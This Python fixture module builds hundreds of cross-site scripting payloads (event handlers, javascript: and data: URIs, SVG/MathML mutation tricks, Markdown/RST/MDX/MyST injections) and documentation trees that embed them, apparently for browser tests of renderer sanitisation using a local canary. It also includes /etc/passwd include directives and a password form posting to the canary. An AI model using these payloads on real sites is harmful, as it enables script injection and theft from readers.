"""Texts that try to run a script in a reader's browser, by what they abuse, and trees that hold them everywhere.

Whatever runs calls `__xss`, whatever loads asks CANARY; tests/browser/test_hostile_texts.py listens to both.
"""

from html import escape

JS = "__xss(1)"
CANARY = "127.0.0.1:9"
AWAY = f"http://{CANARY}/x"
IMG = f"<img src=x onerror={JS}>"
OUT = f'"><svg onload={JS}>'
QUOTE = f'" autofocus onfocus={JS} onmouseover={JS} x="'
SCRIPT = f"<script>{JS}</script>"
LINE = f"{IMG}{OUT}{SCRIPT}"
"""For every field of one line."""
CODED = "".join(f"&#{ord(letter)};" for letter in "javascript:") + JS
HEX = "".join(f"&#x{ord(letter):04x};" for letter in "javascript:") + JS
DATA = "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg=="

ELEMENTS = {
    "scripts": [
        SCRIPT, f"<ScRiPt>{JS}</sCrIpT>", f"<script src=//{CANARY}/x.js></script>", f"<script/x>{JS}</script>",
        f"<script type=module>{JS}</script>", f"<script\n>{JS}</script\n>", f"<<script>{JS}//<</script>",
        f"<scr<script>ipt>{JS}</scr</script>ipt>", f"%3Cscript%3E{JS}%3C/script%3E", f"\\<script>{JS}</script>",
        f"&lt;script&gt;{JS}&lt;/script&gt;", f"<script xmlns='http://www.w3.org/1999/xhtml'>{JS}</script>",
    ],
    "handlers": [
        IMG, f"<img src=x onerror='{JS}'>", f"<img/src=x/onerror={JS}>", f"<img src=x oNeRrOr\n=\n{JS}>",
        f'<img alt="`" src=x onerror={JS}>', f"<p onclick={JS}>p</p>", f"<div onpointerrawupdate={JS}>d</div>",
        f"<b tabindex=0 autofocus onfocus={JS}>b</b>", f"<details open ontoggle={JS}><summary>s</summary></details>",
        f"<div popover id=pop onbeforetoggle={JS}>d</div><button popovertarget=pop>b</button>",
        f"<audio src=x onerror={JS}></audio>", f"<video><source onerror={JS}></video>", f"<marquee onstart={JS}>m</marquee>",
        f"<table background=x><tr><td onmouseenter={JS}>c</td></tr></table>", f"<input autofocus onfocus={JS}>",
        f"<span style='animation:x' onanimationstart={JS}>s</span>", f"<i data-x='{QUOTE}' title='{QUOTE}'>i</i>",
        f"<a href=# onclick\u00a0={JS} onclick\f={JS}>a</a>", f"<h2 onclick={JS} id='{escape(QUOTE)}'>Heading</h2>",
        f"<b hx-get='{AWAY}' hx-trigger=load hx-on:click='{JS}' hx-on--load='{JS}' data-hx-get='{AWAY}'>b</b>",
        "<b data-controller='w-dialog' data-action='click->w-dialog#show' data-helpful data-helpful-form>b</b>",
    ],
    "addresses": [
        *(f'<a href="{one}">a</a>' for one in (
            f"javascript:{JS}", f"JaVaScRiPt:{JS}", f" \x01javascript:{JS}", f"java\tscript:{JS}", f"java\nscript:{JS}",
            f"java&#x0A;script:{JS}", f"javascript&colon;{JS}", f"java&Tab;script:{JS}", CODED, HEX, f"&#1;javascript:{JS}",
            f"vbscript:{JS}", DATA, f"data:text/html,{escape(SCRIPT)}", f"feed:javascript:{JS}", f"view-source:javascript:{JS}",
            f"javascript://example.org/%0A{JS}", f"//{CANARY}/", f"blob:{JS}", f"\u2028javascript:{JS}",
        )),
        f"<a href='#' xlink:href='javascript:{JS}'>a</a>", f"<area href='javascript:{JS}'>", f"<img src='javascript:{JS}'>",
        f"<img srcset='{AWAY} 1x'>", f"<img src='//{CANARY}/x.png'>", f"<img src='\\\\{CANARY}\\x'>", f"<img src='/\\{CANARY}/x'>",
        f"<img src=/\t/{CANARY}/x>", f"<img src='data:image/svg+xml,{escape(f'<svg xmlns=http://www.w3.org/2000/svg onload={JS}>')}'>",
        f"<video src='{AWAY}' poster='{AWAY}'></video>", f"<audio src=' //{CANARY}/x'></audio>",
        f"<a href='https://example.org' ping='{AWAY}' target=_blank download>a</a>", f"<q cite='javascript:{JS}'>q</q>",
        f"<picture><source srcset='{AWAY}'><img src='{AWAY}'></picture>", f"<input type=image src='{AWAY}' formaction='javascript:{JS}'>",
        f"<body background='{AWAY}'>b</body>", f"<table background='{AWAY}'><tr><td background='{AWAY}'>c</td></tr></table>",
    ],
    "drawings": [
        f"<svg onload={JS}></svg>", f"<svg><script>{JS}</script></svg>", f"<svg><script href='{AWAY}'/></svg>",
        f"<svg><a href='javascript:{JS}'><text y=9>t</text></a></svg>",
        f"<svg><a><animate attributeName=href values='javascript:{JS}' begin=0s /><text y=9>t</text></a></svg>",
        f"<svg><set attributeName=onmouseover to='{JS}'/><animate onbegin={JS} attributeName=x dur=1s></svg>",
        f"<svg><use href='data:image/svg+xml,{escape(f'<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={JS} /></svg>')}#x'/></svg>",
        f"<svg><use href='{AWAY}#x'/><image href='{AWAY}'/><feImage href='{AWAY}'/></svg>",
        f"<svg><foreignObject><iframe srcdoc='{escape(SCRIPT)}'></iframe><body onload={JS}></body></foreignObject></svg>",
        f"<svg><style>@import '{AWAY}'; * {{ background: url({AWAY}) }}</style></svg>", f"<svg><title>{SCRIPT}</title></svg>",
        f"<svg><desc><img src=x onerror={JS}></desc></svg>", f"<math><mi xlink:href='javascript:{JS}'>x</mi></math>",
        f"<math href='javascript:{JS}'><mtext>x</mtext></math>", f"<math><maction actiontype=statusline#{AWAY} href='javascript:{JS}'>x</maction></math>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={JS}></annotation-xml></math>",
    ],
    "frames": [
        f"<iframe src='javascript:{JS}'></iframe>", f"<iframe src='{AWAY}'></iframe>", f"<iframe srcdoc='{escape(SCRIPT)}'></iframe>",
        f"<object data='javascript:{JS}'></object>", f"<object data='{DATA}'></object>", f"<embed src='javascript:{JS}'>",
        f"<embed src='{AWAY}' type='text/html'>", f"<frameset onload={JS}></frameset>", f"<portal src='{AWAY}'></portal>",
        f"<applet code='{AWAY}'></applet>", f"<fencedframe src='{AWAY}'></fencedframe>",
    ],
    "pages": [
        f"<base href='{AWAY}/'>", f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        f"<link rel=stylesheet href='{AWAY}.css'>", f"<link rel=prefetch href='{AWAY}'>", f"<link rel=import href='{DATA}'>",
        f"<style>@import url({AWAY}); body {{ background: url({AWAY}) }}</style>", f"<p style='background:url({AWAY})'>p</p>",
        f"<p style=\"x:expression({JS});-moz-binding:url({AWAY})\">p</p>", "<p class='site-head button docs-tree'>p</p>",
        f"<form action='{AWAY}'><input name=password><button>Sign in</button></form>", f"<form><button formaction='javascript:{JS}'>b</button></form>",
        f"<form id=f action='javascript:{JS}'></form><button form=f>b</button>", f"<isindex action='javascript:{JS}' type=image>",
        f"<template><img src=x onerror={JS}></template>", f"<template shadowrootmode=open><img src=x onerror={JS}></template>",
        f"<noscript><img src=x onerror={JS}></noscript>", f"<xmp><p title=\"</xmp><img src=x onerror={JS}>\"></p></xmp>",
        f"<dialog open onclose={JS}>d</dialog>", f"<slot onslotchange={JS}>s</slot>", f"<keygen autofocus onfocus={JS}>",
    ],
    "names": [
        *(f"<a id='{one}' name='{one}'>a</a>" for one in (
            "body", "head", "cookie", "forms", "htmx", "location", "document", "defaultView", "documentElement", "querySelector",
            "currentScript", "getElementById", "main", "doc-body", "docs-text", "docs-tree", "docs-q", "docs-found", "docs-contents", "nav-1",
        )),
        "<img name=body src=x id=location>\n\n<form id=document><input name=getElementById></form>", f"<a id=x><a id=x name=y href='javascript:{JS}'>a</a></a>",
    ],
    "mutations": [
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={JS}&gt;'></table></mtext></math>",
        f"<noscript><p title='</noscript><img src=x onerror={JS}>'></p></noscript>", f"<svg></p><style><a id='</style><img src=1 onerror={JS}>'></a></style></svg>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}></style></mglyph></form></mtext></math>",
        f"<svg><p><style><g title='</style><img src=x onerror={JS}>'></g></style></p></svg>", f"<p><table><svg><style>&lt;img src=x onerror={JS}&gt;</style></svg></table></p>",
        f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={JS}>'>a</a></select>",
        f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={JS}></style></annotation-xml></math>", f"<p id='</p><img src=x onerror={JS}>'>p</p>",
        f"<svg><title><style><img src='</style><img src=x onerror={JS}>'></style></title></svg>", f"<table><a href='</table><img src=x onerror={JS}>'>a</a></table>",
        f"<kbd><noembed><kbd title='</noembed><img src=x onerror={JS}>'></kbd></noembed></kbd>", f"<mglyph><svg><mtext><style><path id='</style><img onerror={JS} src>'></style></mtext></svg></mglyph>",
        *(f"{before}<p><a class='across' href='/~at~{one}/docs/'>a</a>{after}"
          for before, after in (("<svg><style>", "</style></svg>"), ("<math><mtext><style>", "</style></mtext></math>"))
          for one in (f"javascript://%0a{JS}", f"//{CANARY}")),
    ],
}  # fmt: skip
"""HTML, whole in itself: what follows on the page is still read."""

SWALLOWING = [
    f"<!--><img src=x onerror={JS}>-->", f"<!-- --!><img src=x onerror={JS}> -->", f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<textarea><img title='</textarea><img src=x onerror={JS}>'>", f"<plaintext><img src=x onerror={JS}>", f"<title><img title='</title><img src=x onerror={JS}>'>",
    f"<style><img title='</style><img src=x onerror={JS}>'>", f"<img src=x onerror={JS}//", f"<a href='javascript:{JS}", f"<svg><style><!--</style><img src=x onerror={JS}>-->",
    f"<?php echo '<img src=x onerror={JS}>' ?>", f"<?xml-stylesheet href='{AWAY}'?><img src=x onerror={JS}>", f"<div title=\"<img src=x onerror={JS}>", f"</div></div></article></main><img src=x onerror={JS}>",
    f"<xmp><img src=x onerror={JS}>", f"<iframe><img title='</iframe><img src=x onerror={JS}>'>", f"<noembed><img title='</noembed><img src=x onerror={JS}>'>", f"\x00<img\x00 src=x onerror={JS}>",
    f"<!DOCTYPE x [<!ENTITY e \"<img src=x onerror={JS}>\">]>&e;", f"{'<b>' * 600}{IMG}", f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
]  # fmt: skip
"""Each on a page of its own, since the rest of it may go with them."""

MARKDOWN = [
    f"[a](javascript:{JS})", f"[a](<javascript:{JS}>)", f"[a](java&#115;cript:{JS})", f"[a]({CODED})", f"[a](\x01javascript:{JS})",
    f"[a](vbscript:{JS})", f"[a]({DATA})", f'[a](https://example.org "{QUOTE}")', f"[a](https://example.org '\\\"onclick={JS}')", f"![a](x\"onerror={JS})",
    f"![{QUOTE}](x)", f'![a](x "{QUOTE}")', f"![a]({AWAY}.png)", f"![a](//{CANARY}/x.png)", f"![a](data:image/svg+xml,<svg onload={JS}>)",
    f"[r{QUOTE}]\n\n[r{QUOTE}]: javascript:{JS}", f"[s]\n\n[s]: https://example.org ('\"onclick={JS})", f"<javascript:{JS}>", f"<https://example.org/{OUT}>",
    f"[![a](x)](javascript:{JS})", f"[{IMG}](https://example.org)", f"`{IMG}`", f"```html\" onclick={JS}\n{IMG}\n```", f"```js title=\"{LINE}\" {{{QUOTE}}}\n{SCRIPT}\n```",
    f"~~~{OUT}\n</code></pre>{SCRIPT}\n~~~", f"    </code></pre>{SCRIPT}", f"```mermaid\ngraph TD; A[\"{IMG}\"] --> B; click A \"javascript:{JS}\"\n%%{{init: {{'securityLevel': 'loose'}}}}%%\n```",
    f"$$ \\href{{javascript:{JS}}}{{x}} \\htmlData{{x={OUT}}} $$", f"\\( {IMG} \\)", f"| {IMG} |\n|---|\n| {SCRIPT} |", f"- [ ] {IMG}\n- [x] {SCRIPT}",
    f"## Heading {IMG} {{#h{QUOTE}}}", f"## {SCRIPT}", f"### Heading {{#docs-tree onclick={JS}}}", f"Setext {IMG}\n---", f"Term {IMG}\n:   Text {SCRIPT}", f"Note[^{QUOTE}]\n\n[^{QUOTE}]: {IMG}",
    f"*[HTML]: {QUOTE}\n\nHTML", f"www.example.org/{QUOTE}", f"mailto:{QUOTE}@example.org", f"~~{IMG}~~ **{IMG}** __{SCRIPT}__", f"{{% {JS} %}} {{{{ {JS} }}}} ${{{JS}}} <%= {JS} %>", f"<{QUOTE}>", f"<drupal_root onclick={JS}>",
]  # fmt: skip

MKDOCS = [
    f'!!! note "{LINE}"\n    {IMG}', f"!!! note\" onclick={JS}\n    text", f'??? danger "{QUOTE}"\n    {SCRIPT}', f'=== "{LINE}"\n    {IMG}\n\n=== "{QUOTE}"\n    text',
    f"word{{: onclick={JS} href=javascript:{JS} style='background:url({AWAY})' #id{OUT} }}", f"[a](b.md){{ href=\"javascript:{JS}\" onmouseover={JS} target=_blank }}",
    f"![a](x.png){{ onerror={JS} src={AWAY} srcset='{AWAY} 1x' }}", f"## Heading {{ onclick={JS} id='{escape(OUT)}' }}", f"<div markdown onclick={JS}>\n\n{IMG}\n\n[a](javascript:{JS})\n\n</div>",
    f'```{{ .html onclick={JS} title="{LINE}" linenums="1{QUOTE}" hl_lines="{QUOTE}" }}\n{IMG}\n```', f"++ctrl+\"{IMG}\"++", f":smile{QUOTE}: :{IMG}:", f"{{++{IMG}++}} {{>>{SCRIPT}<<}}", f"--8<-- \"{AWAY}\"",
    f"[=50% \"{LINE}\"]", f"^^{IMG}^^ =={SCRIPT}==", f"/// note | {LINE}\n{IMG}\n///", f"[TOC]\n\n[[{QUOTE}]]",
]  # fmt: skip

MDX = [
    f":::note[{LINE}]\n{IMG}\n:::", f":::danger {QUOTE}\ntext\n:::", f"{{{JS}}}", f"{{(() => {{ {JS}; return '{IMG}' }})()}}", f"import X from '{AWAY}.js'\n\nexport const y = {JS}\n\n<X onClick={{() => {JS}}} y={{y}} />",
    f"<Tabs>\n<TabItem value=\"{escape(OUT)}\" label=\"{escape(LINE)}\">\n\n{IMG}\n\n</TabItem>\n</Tabs>", f"<div dangerouslySetInnerHTML={{{{ __html: '{IMG}' }}}} />", f"<a href={{'javascript:{JS}'}}>a</a>",
    f"<img src={{`x`}} onError={{() => {JS}}} />", f"<Link to=\"javascript:{JS}\">a</Link>", f"```js title=\"{OUT}\" live\n{JS}\n```", f"<CodeBlock language='{QUOTE}'>{{'{IMG}'}}</CodeBlock>", f"## Heading {{/* #{QUOTE} */}}", f"[a](@site/{QUOTE})",
]  # fmt: skip

MYST = [
    f"```{{raw}} html\n{IMG}\n```", f"```{{admonition}} {LINE}\n:class: x{QUOTE}\n{IMG}\n```", f"```{{image}} javascript:{JS}\n:alt: {QUOTE}\n:target: javascript:{JS}\n```", f"```{{figure}} {AWAY}\n:name: x{OUT}\n{IMG}\n```",
    f"{{raw}}`{IMG}` {{ref}}`{QUOTE}` {{html}}`{IMG}` {{download}}`{QUOTE}`", f"```{{eval-rst}}\n.. raw:: html\n\n   {IMG}\n```", "```{include} /etc/passwd\n```", f"```{{code-block}} html{QUOTE}\n:caption: {LINE}\n{IMG}\n```",
    f"({QUOTE})=\n### Target", f"{{{{ {JS} }}}}", f"[a](javascript:{JS}){{onclick={JS}}}", f":::{{note}}\n{IMG}\n:::", f"```{{unknown}} {LINE}\n{IMG}\n```", f"{{unknown}}`{LINE}`",
]  # fmt: skip

RST = [
    f".. raw:: html\n\n   {IMG}", f".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`{IMG}`", f"`a <javascript:{JS}>`_", f"`b <java\tscript:{JS}>`__", f"`c <{DATA}>`__", f".. image:: javascript:{JS}\n   :alt: {QUOTE}\n   :target: javascript:{JS}",
    f".. figure:: {AWAY}\n   :align: left\n   :target: vbscript:{JS}\n\n   {LINE}", f".. _x{JS}: javascript:{JS}\n\nx{JS}_", f".. admonition:: {LINE}\n   :class: x onclick\n\n   {IMG}", ".. include:: /etc/passwd", f".. csv-table:: {LINE}\n   :url: {AWAY}",
    f".. csv-table:: {LINE}\n\n   \"{IMG}\", \"{SCRIPT}\"", f".. code-block:: html\n   :caption: {LINE}\n   :name: x{JS}\n\n   {IMG}", f".. code:: {OUT}\n\n   {SCRIPT}", f".. math::\n\n   \\href{{javascript:{JS}}}{{x}} {IMG}", f":math:`{IMG}` :code:`{IMG}` ``{SCRIPT}``",
    f".. |s| replace:: {IMG}\n\n|s|", f".. |i| image:: {AWAY}\n\n|i|", f"{IMG}\n\n{SCRIPT}\n\n<javascript:{JS}>", f"javascript:{JS}", f".. unknown:: {LINE}\n   :{JS}: x\n\n   {IMG}", f":unknown:`{LINE}` :doc:`{LINE} <a>` :ref:`{LINE} <javascript:{JS}>`",
    f".. container:: x onclick={JS}\n\n   {IMG}", f".. class:: x\" onclick={JS}\n\nParagraph", f".. meta::\n   :refresh: 0;url={AWAY}\n   :http-equiv=refresh: 0;url={AWAY}", f".. title:: {LINE}", f".. topic:: {LINE}\n\n   {IMG}", f".. sidebar:: {LINE}\n\n   {IMG}",
    f".. [x{JS}] {IMG}", f"Term {IMG}\n   {SCRIPT}", f":Field {IMG}: {SCRIPT}", f".. note::\n   {IMG}", f".. toctree::\n   :caption: {LINE}\n\n   {LINE} <javascript:{JS}>\n   {IMG} <{AWAY}>", f".. only:: html\n\n   {IMG}", f".. graphviz::\n\n   digraph {{ a [href=\"javascript:{JS}\"] }}",
    f".. replace:: {IMG}", f".. date:: {IMG}", f".. parsed-literal::\n\n   {IMG} `a <javascript:{JS}>`__", f"{IMG}\n{'=' * 60}\n\nText",
]  # fmt: skip

DRAWINGS = {
    "script.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{JS}</script><rect width="9"/></svg>',
    "load.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><rect width="9" onclick="{JS}"/></svg>',
    "animate.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><a id="a" href="#"><animate attributeName="href" values="javascript:{JS}"/><set attributeName="href" to="javascript:{JS}"/><animateTransform attributeName="href" to="javascript:{JS}" onbegin="{JS}"/><rect width="99" height="99"/></a></svg>',
    "foreign.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="{JS}"><img src="x" onerror="{JS}"/></body></foreignObject></svg>',
    "xhtml.svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="{AWAY}" onerror="{JS}"/><h:script>{JS}</h:script><h:link rel="stylesheet" href="{AWAY}"/><h:video src="{AWAY}"/><h:form action="javascript:{JS}"><h:button formaction="javascript:{JS}">b</h:button></h:form><h:meta http-equiv="refresh" content="0;url={AWAY}"/><h:base href="{AWAY}"/><h:frame src="javascript:{JS}"/><h:input type="image" src="{AWAY}"/></svg>',
    "links.svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:{JS}"><rect width="9"/></a><use xlink:href="{AWAY}#x"/><image xlink:href="{AWAY}" href="{AWAY}"/><filter id="f"><feImage href="{AWAY}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    "style.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "{AWAY}"; @import url({AWAY}); rect {{ fill: url({AWAY}#x); background: \\75 rl({AWAY}); mask: url("{AWAY}#m") }} @font-face {{ font-family: f; src: url({AWAY}) }} text {{ font-family: f }}</style><rect width="9" height="9" style="cursor:url({AWAY}),auto;filter:url({AWAY}#f);background-image:image-set(\'{AWAY}\' 1x)" mask="url({AWAY}#m)" clip-path="url({AWAY}#c)"/><text y="20">t</text></svg>',
    "sheet.svg": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><?xml-stylesheet href="{AWAY}"?><svg xmlns="http://www.w3.org/2000/svg"><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>{JS}</script></html></xsl:template></xsl:stylesheet></svg>',
    "entity.svg": f'<!DOCTYPE svg [<!ENTITY s "&#60;script xmlns=\'http://www.w3.org/2000/svg\'&#62;{JS}&#60;/script&#62;"><!ENTITY r "javascript:{JS}">]><svg xmlns="http://www.w3.org/2000/svg">&s;<a href="&r;"><rect width="9"/></a></svg>',
    "attlist.svg": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{JS}"><!ATTLIST rect onclick CDATA "{JS}">]><svg xmlns="http://www.w3.org/2000/svg"><rect width="9"/></svg>',
    "handler.svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events"><handler type="application/ecmascript" ev:event="load">{JS}</handler><use href="data:image/svg+xml,&lt;svg id=\'x\' onload=\'{JS}\'/&gt;#x"/><discard onbegin="{JS}"/></svg>',
    "page.svg": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{JS}</script></html>',
}  # fmt: skip

MARK, END = "Mark{}here", r"Mark-end-(\d+)here"


def page(title: str, texts: list[str]) -> str:
    return f"# {title}\n\n{_marked(texts)}\n"


def rst_page(title: str, texts: list[str]) -> str:
    return f"{title}\n{'=' * len(title)}\n\n{_marked(texts)}\n"


def _marked(texts: list[str]) -> str:
    """A mark before each text and their number after the last, so that it is seen whether all of the page was read."""
    parts = [f"{MARK.format(number)}\n\n{text}" for number, text in enumerate(texts)]
    return "\n\n".join([*parts, MARK.format(f"-end-{len(texts)}")])


def _shared(own: list[str], ending: str = "md") -> dict[str, str]:
    """Pages of every kind of Markdown."""
    found = {f"{name}.{ending}": page(name, texts) for name, texts in ELEMENTS.items()}
    found |= {f"alone{number}.{ending}": f"# Alone\n\n{text}\n" for number, text in enumerate(SWALLOWING)}
    found |= {f"markdown.{ending}": page("markdown", MARKDOWN), f"own.{ending}": page("own", own)}
    found[f"titled.{ending}"] = (
        f"---\ntitle: '{LINE}'\ndescription: '{OUT}'\nsidebar_label: '{LINE}'\ntags: ['{OUT}']\n---\n\n# {LINE}\n\nText.\n"
    )
    found[f"headed.{ending}"] = f"# {LINE}\n\n## {LINE}\n\nText.\n"
    found[f"drawn.{ending}"] = "# Drawn\n\n" + "".join(f"![{QUOTE}]({name})\n[{name}]({name})\n\n" for name in DRAWINGS)
    return found


def _files(ending: str = "md") -> dict[str, str]:
    """Under names that are texts of that kind themselves."""
    names = (f"<img src=x onerror={JS}>", f'"onmouseover={JS} "', f"javascript:{JS}", "&lt;script&gt;", f"'{JS}'")
    return {f"{name}.{ending}": f"{name} in a file\n\n[dead]({name}{OUT}.md)\n" for name in names}


MKDOCS_YML = f"""
site_name: '{LINE}'
site_description: '{LINE}'
extra_javascript: ['{AWAY}.js']
markdown_extensions: [abbr, admonition, attr_list, def_list, footnotes, md_in_html, tables, toc, pymdownx.arithmatex, pymdownx.critic,
  pymdownx.details, pymdownx.emoji, pymdownx.highlight, pymdownx.keys, pymdownx.magiclink, pymdownx.mark, pymdownx.progressbar,
  pymdownx.snippets, pymdownx.superfences, pymdownx.tabbed, pymdownx.tasklist, pymdownx.tilde, pymdownx.blocks.admonition]
nav:
  - '{LINE}': index.md
  - '{LINE} section':
      - '{LINE} deep': own.md
      - titled.md
  - '{LINE} away': 'javascript:{JS}'
  - 'tabbed': "java\\tscript:{JS}"
  - 'coded': '{CODED}'
  - 'data': '{DATA}'
  - headed.md
  - drawn.md
"""


def mkdocs() -> dict[str, str]:
    pages = {"index.md": f"# Home\n\n{IMG}\n", **_shared(MKDOCS), **_files(), **DRAWINGS}
    return {"mkdocs.yml": MKDOCS_YML, **{f"docs/{name}": text for name, text in pages.items()}}


def gfm() -> dict[str, str]:
    return {"README.md": f"# {LINE}\n", **_shared(MKDOCS), **_files(), **DRAWINGS}


def docusaurus() -> dict[str, str]:
    config = f"module.exports = {{ title: `{LINE}`, tagline: '{OUT}', presets: [['classic', {{ docs: {{}} }}]], scripts: ['{AWAY}'] }};\n"
    category = f'{{"label": "{escape(LINE, quote=False).replace(chr(34), "")}<b>{IMG}</b>", "link": {{"type": "generated-index", "slug": "javascript:{JS}"}}}}'
    pages = {"index.md": f"---\nslug: 'javascript:{JS}'\n---\n\n# Home\n", **_shared(MDX, "mdx"), **DRAWINGS}
    pages |= {"part/_category_.json": category, "part/a.md": f"# {LINE}\n"}
    return {"docusaurus.config.js": config, **{f"docs/{name}": text for name, text in pages.items()}}


def sphinx() -> dict[str, str]:
    conf = f"project = '''{LINE}'''\nextensions = ['myst_parser']\nmyst_enable_extensions = ['attrs_inline', 'attrs_block', 'colon_fence', 'dollarmath', 'html_image', 'substitution']\nmyst_substitutions = {{'key': '''{IMG}'''}}\nrst_epilog = '''\n{IMG}\n'''\n"
    index = f"{LINE}\n{'=' * len(LINE)}\n\n.. toctree::\n   :caption: {LINE}\n\n   {LINE} <own>\n   titled\n   rst\n   {LINE} <javascript:{JS}>\n"
    rst = {"index.rst": index, "rst.rst": rst_page("rst", RST)}
    return {"conf.py": conf, **rst, **_shared(MYST), **DRAWINGS}


DISCOURSE = [
    f'[details="{LINE}"]\n{IMG}\n[/details]', f"[details={QUOTE}]\n{SCRIPT}\n[/details]", f'[quote="{LINE}, post:1"]\n{IMG}\n[/quote]', f'[note type="x onclick={JS}" status="{LINE}"]\n{IMG}\n[/note]',
    f'[tabs]\n[tab version="{LINE}"]\n{IMG}\n[/tab]\n[/tabs]', f"[spoiler]{IMG}[/spoiler]", f"[anchor=x{OUT}]", f"[date=2026-01-01 time={QUOTE} timezone={QUOTE}]", "[date= ]", f"![{QUOTE}|9x9](upload://{QUOTE}.png)",
    f"[a|attachment](javascript:{JS})", f"[wrap={QUOTE}]\n{IMG}\n[/wrap]",
]  # fmt: skip

BOOK = [
    f'{{% hint style="danger onclick={JS}" %}}\n{IMG}\n{{% endhint %}}', f'{{% tabs %}}\n{{% tab title="{LINE}" %}}\n{IMG}\n{{% endtab %}}\n{{% endtabs %}}', f'{{% embed url="javascript:{JS}" %}}',
    f'{{% content-ref url="javascript:{JS}" %}}\n{IMG}\n{{% endcontent-ref %}}', "{{#include ../../../etc/passwd}}", f"{{{{#include {QUOTE}}}}}", "{{#include bad.html}}", f"{{{{#title {LINE}}}}}", f"```rust\n# {IMG}\n## {SCRIPT}\n```",
]  # fmt: skip


def discourse() -> dict[str, str]:
    rows = f"| 1 | own | [{LINE}](/t/own/1) |\n| 1 | x | [B](javascript:{JS}) |\n| 1 | y | [C](http://[x) |\n| 1 | {QUOTE} | [D]({DATA}) |\n"
    tables = f"[details=Navigation]\n| Level | Path | Navlink |\n|--|--|--|\n{rows}[/details]\n\n[details=Mapping table]\n| Path | Location |\n|--|--|\n| /a | javascript:{JS} |\n| /b | http://[x |\n[/details]\n"
    return {"index.md": f"# {LINE}\n\n{IMG}\n\n{tables}", **_shared(DISCOURSE), **_files(), **DRAWINGS}


def book() -> dict[str, str]:
    summary = f"# {LINE}\n\n- [{LINE}](own.md)\n- [A](javascript:{JS})\n- [B]({DATA})\n- [C](http://[x)\n- {IMG}\n- [D](titled.md '{QUOTE}')\n"
    pages = {"README.md": f"# {LINE}\n", "bad.html": f"{IMG}\n", **_shared(BOOK), **_files(), **DRAWINGS}
    return {"book.json": f'{{"title": "<b>{JS}</b>"}}', "SUMMARY.md": summary, **pages}
